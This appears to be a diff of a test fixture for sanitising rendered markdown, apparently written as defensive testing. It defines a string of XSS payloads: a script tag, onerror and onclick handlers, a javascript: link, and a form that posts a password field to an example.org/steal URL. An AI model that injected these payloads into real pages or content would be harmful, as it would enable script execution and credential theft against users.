@@ -45,7 +45,7 @@ THEME = next(k for k in THEMES if 2 <= len(members(k)) < len(RECORDS) and list(R
 EDITED = "wanzhou-grassroots-federation-reform"
 PAYLOAD = ('Raw script: <script>window.__xss = 1</script> end of raw script.\n\n'
            '<img src="x" onerror="window.__xss = 2">\n\n'
-           'A [link](javascript:window.__xss=3) and a paragraph.\n{onclick="window.__xss=4"}\n\n'
+           'A [link](javascript:window.__xss=3) and <span onclick="window.__xss=4">a paragraph.</span>\n\n'
            '<form action="https://example.org/steal" class="cb-pack-picker"><input name="password" value="x">'
            '<select name="theme"><option value="x">injected option</option></select>'
            '<button type="submit" data-action="print">injected button</button></form>\n\n'
